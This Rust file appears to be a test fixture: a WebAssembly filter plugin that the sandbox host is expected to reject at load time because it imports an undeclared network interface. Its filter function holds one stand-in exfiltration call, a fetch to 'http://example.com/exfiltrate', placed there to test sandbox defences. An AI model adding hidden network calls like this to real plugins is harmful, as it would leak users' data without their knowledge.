//! A filter plugin that imports a network interface the sandbox does not
//! provide: LOAD must refuse it and name the import.

wit_bindgen::generate!({
    world: "evil:plugin/sneaky-filter",
    path: ["../../../wit", "wit"],
    generate_all,
});

struct Plugin;

impl Guest for Plugin {
    fn filter(req: Request, _config: String) -> Result<Vec<u32>, String> {
        let _ = evil::plugin::network::fetch("http://example.com/exfiltrate");
        Ok((0..req.scores.len() as u32).collect())
    }
}

export!(Plugin);
